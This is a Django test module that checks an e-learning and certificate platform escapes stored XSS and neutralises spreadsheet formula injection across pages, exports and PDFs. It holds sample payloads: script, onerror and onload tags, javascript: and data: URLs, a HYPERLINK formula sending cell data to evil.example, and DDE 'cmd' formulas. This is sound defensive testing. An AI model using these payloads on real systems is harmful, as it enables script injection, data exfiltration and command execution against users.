"""Stored XSS: names, titles, course and quiz texts and lesson rich text carrying markup are shown as text wherever
they appear (learner pages, the public verification page, the HR admin, exports, the certificate PDF)."""

import csv
import io
import json
import logging
import re
from decimal import Decimal
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
from allauth.account.models import EmailAddress
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook
from pypdf import PdfReader
from wagtail.test.utils.form_data import nested_form_data, rich_text, streamfield

from certificates.services import certificate_issue
from cms.models import LessonPage
from employees.models import User
from quizzes import services as quiz_services
from quizzes.models import Choice, Question
from tests.support.auth import enrol_totp
from tests.support.builders import UserFactory, WorkUnitFactory, build_course, build_quiz
from tracking.models import Assignment

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = '"><svg onload=alert(1)>'
JS_URL = "javascript:alert(1)"
PAYLOADS = [SCRIPT, IMG, SVG, JS_URL]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
COMMENTS = {
    "comments-TOTAL_FORMS": "0",
    "comments-INITIAL_FORMS": "0",
    "comments-MIN_NUM_FORMS": "0",
    "comments-MAX_NUM_FORMS": "1000",
}


class _StartTags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.handlers = []

    def handle_starttag(self, tag, attrs):
        self.handlers += [
            (tag, name, value) for name, value in attrs if name.startswith("on") and "alert" in (value or "")
        ]


def event_handlers_calling_alert(html: str) -> list[tuple[str, str, str]]:
    parser = _StartTags()
    parser.feed(html)
    parser.close()
    return parser.handlers


def assert_inert(html: str, *shown: str) -> None:
    """No payload survives as markup, and each of `shown` is on the page as (escaped) text."""
    assert SCRIPT not in html and "<script>alert" not in html.lower()
    assert not re.search(r"<img[^>]*\bonerror\s*=", html, re.IGNORECASE)
    assert not re.search(r"<svg[^>]*\bonload\s*=", html, re.IGNORECASE)
    # An event attribute on any tag (a payload that broke out of an attribute's quotes), as a browser parses the tags:
    # an escaped payload inside a quoted attribute value is that value's text, not an attribute.
    assert event_handlers_calling_alert(html) == []
    assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*(javascript|data|vbscript):""", html, re.IGNORECASE)
    for text in shown:
        # Quotes may stay literal in text content (Wagtail's rich text leaves them); < and > never do.
        assert escape(text) in html or escape(text).replace("&quot;", '"').replace("&#x27;", "'") in html, text


def superuser_client(client):
    """A superuser with the second factor the admin requires of staff, logged in."""
    client.force_login(enrol_totp(UserFactory(first_name="Admin BKD", is_superuser=True, is_staff=True)))
    return client


@pytest.fixture
def marked_course(db):
    return build_course(title=f"{SCRIPT} Netralitas {SVG}")


@pytest.fixture
def victim(marked_course):
    """An employee whose every printed field carries markup, in a unit whose name does, with a certificate."""
    unit = WorkUnitFactory.create(code="XSS", name=f"Dinas {SVG} {SCRIPT}")
    Assignment.objects.create(course=marked_course, due_date=timezone.localdate() + timezone.timedelta(days=10))
    user = UserFactory(
        first_name=SCRIPT, title_prefix=IMG, title_suffix=SVG, position=f"{JS_URL} {IMG}", work_unit=unit
    )
    certificate = certificate_issue(user=user, course=marked_course, score=Decimal("90"))
    return user, certificate


@pytest.mark.django_db
def test_the_learners_certificate_list_escapes_names_and_titles(client, victim):
    user, _certificate = victim
    client.force_login(user)
    response = client.get(reverse("certificates:mine"))
    assert response.status_code == 200
    assert_inert(response.content.decode(), SCRIPT, SVG)


@pytest.mark.django_db
def test_the_public_verification_page_escapes_the_holder(client, victim):
    _user, certificate = victim
    response = client.get(reverse("certificates:verify", args=(certificate.code,)))
    assert response.status_code == 200
    assert_inert(response.content.decode(), certificate.holder_name, SCRIPT, IMG, SVG)

    response = client.get(
        reverse("certificates:verify", args=(certificate.code,)), headers={"accept": "application/json"}
    )
    # JSON keeps the text as it is; it is served as JSON that a browser never sniffs into HTML.
    assert response.headers["Content-Type"] == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    data = json.loads(response.content)
    assert data["name"] == f"{IMG} {SCRIPT}, {SVG}" and SCRIPT in data["course"]


@pytest.mark.django_db
def test_hr_admin_pages_escape_names_titles_and_units(client, victim, marked_course):
    user, certificate = victim
    superuser_client(client)
    pages = {
        "dashboard": reverse("hr_dashboard") + f"?course={marked_course.pk}",
        "employees": reverse("hr_employees") + f"?course={marked_course.pk}",
        "employee": reverse("hr_employee", args=(user.pk,)),
        "register": reverse("certificate_register"),
        "certificate": reverse("certificate_detail", args=(certificate.pk,)),
    }
    shown = {
        "dashboard": [user.work_unit.name],
        "employees": [user.get_full_name(), user.work_unit.name],
        "employee": [user.get_full_name(), user.position, user.work_unit.name, marked_course.title],
        "register": [certificate.holder_name, marked_course.title],
        "certificate": [certificate.holder_name, marked_course.title],
    }
    for name, url in pages.items():
        response = client.get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert_inert(response.content.decode(), *shown[name])


@pytest.fixture
def formula_people(db):
    """Employees whose names a spreadsheet would run as formulas, each with a certificate for a course whose title
    is a formula too (editors write titles)."""
    course = build_course(title=FORMULAS[0])
    unit = WorkUnitFactory.create(code="CSV", name=FORMULAS[3])
    Assignment.objects.create(course=course, due_date=timezone.localdate() + timezone.timedelta(days=10))
    people = [UserFactory(first_name=formula, title_suffix="", work_unit=unit) for formula in FORMULAS]
    for person in people:
        certificate_issue(user=person, course=course, score=Decimal("90"))
    return course, people


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    delimiter = ";" if body.splitlines()[0].count(";") else ","  # HR exports for Excel; SIASN's plain CSV
    return [cell for row in csv.reader(io.StringIO(body), delimiter=delimiter) for cell in row]


NIP_AS_TEXT = re.compile(r'^="\d{18}"$')  # our own formula around 18 digits, so Excel keeps the NIP as text


@pytest.mark.django_db
def test_csv_exports_neutralise_formulas(client, formula_people):
    course, _people = formula_people
    superuser_client(client)
    exports = [
        reverse("hr_employees") + f"?course={course.pk}&export=csv",
        reverse("certificate_register") + "?export=csv",
        reverse("hr_siasn_export"),
    ]
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = csv_cells(response)
        starting = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") and not NIP_AS_TEXT.match(cell)]
        assert starting == [], (url, starting)
        assert f"'{FORMULAS[0]}" in cells, url  # the text is kept, behind an apostrophe
    names = csv_cells(client.get(reverse("hr_employees") + f"?course={course.pk}&export=csv"))
    assert all(f"'{formula}" in names for formula in FORMULAS)
    assert f"'{FORMULAS[3]}" in names  # the unit's name too


@pytest.mark.django_db
def test_xlsx_exports_write_formulas_as_text(client, formula_people):
    course, _people = formula_people
    superuser_client(client)
    for url in (
        reverse("hr_employees") + f"?course={course.pk}&export=xlsx",
        reverse("certificate_register") + "?export=xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        formulas = [cell for cell in cells if cell.value[:1] in ("=", "+", "-", "@")]
        assert formulas and all(cell.data_type == "s" for cell in formulas), url
        assert FORMULAS[0] in [cell.value for cell in formulas]


@pytest.mark.pdf
@pytest.mark.django_db
def test_the_certificate_pdf_prints_markup_as_text_and_fetches_nothing(course, caplog):
    user = UserFactory(first_name=SCRIPT, title_prefix=IMG, title_suffix="")
    plain = UserFactory(first_name="Siti Aminah", title_prefix="", title_suffix="")
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        certificate = certificate_issue(user=user, course=course, score=Decimal("90"))
    with certificate.pdf.open("rb") as fh:
        page = PdfReader(io.BytesIO(fh.read())).pages[0]
    text = " ".join(page.extract_text().split())
    assert f"{IMG} {SCRIPT}" in text
    # No image was fetched: nothing refused or failed in the log, and no more images than a plain name's certificate.
    # (Unescaped, <img src=x> would be looked up as static/x and logged as "Failed to load image".)
    assert not [r.getMessage() for r in caplog.records if "load" in r.getMessage().lower()]
    with certificate_issue(user=plain, course=course, score=Decimal("90")).pdf.open("rb") as fh:
        baseline = PdfReader(io.BytesIO(fh.read())).pages[0]
    assert len(page.images) == len(baseline.images)


def draftail(blocks: list[tuple[str, list[tuple[int, int, str]]]]) -> str:
    """Draftail's contentstate as the editor posts it: (text, [(offset, length, link url)]) per paragraph."""
    entity_map, content = {}, []
    for index, (text, links) in enumerate(blocks):
        ranges = []
        for offset, length, url in links:
            key = str(len(entity_map))
            entity_map[key] = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": url}}
            ranges.append({"offset": offset, "length": length, "key": int(key)})
        content.append(
            {
                "key": f"b{index}",
                "type": "unstyled",
                "depth": 0,
                "text": text,
                "inlineStyleRanges": [],
                "entityRanges": ranges,
                "data": {},
            }
        )
    return json.dumps({"blocks": content, "entityMap": entity_map})


@pytest.mark.django_db
def test_lesson_rich_text_saved_in_the_admin_renders_without_executable_markup(client, course, learner):
    lesson = LessonPage.objects.child_of(course).first()
    superuser_client(client)
    body = draftail(
        [
            (f"Awas {SCRIPT} dan {IMG} dan {SVG}", []),
            (
                "Klik ini, itu, sana atau situ juga",
                [
                    (5, 3, JS_URL),
                    (10, 3, " JaVaScRiPt:alert(1)"),
                    (15, 4, "java\tscript:alert(1)"),
                    (25, 5, "data:text/html,<script>alert(1)</script>"),
                ],
            ),
            ("Sumber resmi", [(0, 6, "https://www.bkn.go.id/")]),
        ]
    )
    form = (
        nested_form_data(
            {
                "title": "Materi 1",
                "slug": "materi-1",
                "body": streamfield(
                    [
                        ("paragraph", body),
                        # The converter from HTML (as pasted into the editor) too.
                        (
                            "paragraph",
                            rich_text(
                                f'<p>Tempel: <a href="{JS_URL}">tautan</a></p><script>alert(1)</script>'
                                '<p><img src="x" onerror="alert(1)"/>gambar</p>',
                                features=["bold", "italic", "link"],
                            ),
                        ),
                    ]
                ),
            }
        )
        | COMMENTS
    )
    response = client.post(reverse("wagtailadmin_pages:edit", args=(lesson.pk,)), form | {"action-publish": "1"})
    assert response.status_code == 302, response.context and response.context["form"].errors
    lesson.refresh_from_db()
    assert lesson.live and "sana" in str(lesson.body.raw_data)

    client.force_login(learner)
    html = client.get(lesson.url).content.decode()
    assert_inert(html, f"Awas {SCRIPT} dan {IMG} dan {SVG}")
    assert "Klik ini, itu, sana atau situ juga" in re.sub(r"<[^>]+>", "", html)  # the link texts stay, as text
    assert 'href="https://www.bkn.go.id/"' in html  # an ordinary link still works
    assert "Tempel: <a>tautan</a>" in html or "Tempel: tautan" in html


@pytest.mark.django_db
def test_quiz_texts_are_escaped_on_the_attempt_and_the_review(client, course, learner):
    quiz = build_quiz(course, questions=1, shuffle_choices=False)
    question = Question.objects.get(quiz=quiz)
    Question.objects.filter(pk=question.pk).update(text=f"Soal {SCRIPT}\n{SVG}", explanation=f"Pembahasan {IMG}")
    key = question.choices.get(is_correct=True)
    Choice.objects.filter(pk=key.pk).update(text=f"Benar {IMG}")
    Choice.objects.filter(question=question, is_correct=False).update(text=f"Salah {SVG} {JS_URL}")
    attempt = quiz_services.attempt_start(user=learner, quiz=quiz)
    client.force_login(learner)

    html = client.get(reverse("quizzes:attempt", args=(attempt.pk,))).content.decode()
    assert_inert(html, f"Soal {SCRIPT}", SVG, f"Benar {IMG}", f"Salah {SVG} {JS_URL}")

    response = client.post(reverse("quizzes:attempt", args=(attempt.pk,)), {f"q-{question.pk}": str(key.pk)})
    assert response.status_code == 302
    html = client.get(reverse("quizzes:attempt", args=(attempt.pk,))).content.decode()
    assert "Pembahasan" in html  # the full review is shown
    assert_inert(html, f"Soal {SCRIPT}", f"Benar {IMG}", f"Salah {SVG} {JS_URL}", f"Pembahasan {IMG}")


@pytest.mark.django_db
def test_the_learners_own_pages_show_marked_up_values_as_text(client, learner, marked_course):
    """The account page (the name), the certificate list (the course title), the email page (an address) and the
    search page (the query, echoed back): each shows a marked-up value, escaped, as text a reader sees."""
    User.objects.filter(pk=learner.pk).update(first_name=SCRIPT, title_prefix=IMG)
    learner.refresh_from_db()
    certificate_issue(user=learner, course=marked_course, score=Decimal("90"))
    EmailAddress.objects.create(user=learner, email=f"{SVG}@batangkab.go.id", verified=False, primary=False)
    client.force_login(learner)
    pages = {
        reverse("employees:account"): [learner.get_full_name()],
        reverse("certificates:mine"): [marked_course.title],
        reverse("account_email"): [f"{SVG}@batangkab.go.id"],
        f"{reverse('cms:search')}?{urlencode({'q': SCRIPT})}": [SCRIPT],  # the query, echoed in the search box
    }
    for url, shown in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), *shown)


@pytest.mark.django_db
def test_the_roster_preview_escapes_what_the_file_says(client):
    WorkUnitFactory.create(code="DINKES", name="Dinas Kesehatan")
    superuser_client(client)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["NIP", "Nama", "Gelar Depan", "Gelar Belakang", "Email", "Kode Unit", "Jabatan", "Status"])
    writer.writerow(["197501012010031001", SCRIPT, IMG, SVG, "", "DINKES", JS_URL, "PNS"])
    writer.writerow(["197501042010032001", f"Budi {SVG}", "", "", "", f"X{SCRIPT}", "", "PNS"])
    upload = SimpleUploadedFile("pegawai.csv", buffer.getvalue().encode())
    html = client.post(reverse("roster_import"), {"file": upload}).content.decode()
    assert "Hasil pemeriksaan" in html
    assert_inert(html, SCRIPT, f"Budi {SVG}", f"Kode unit X{SCRIPT.upper()} tidak dikenal.")
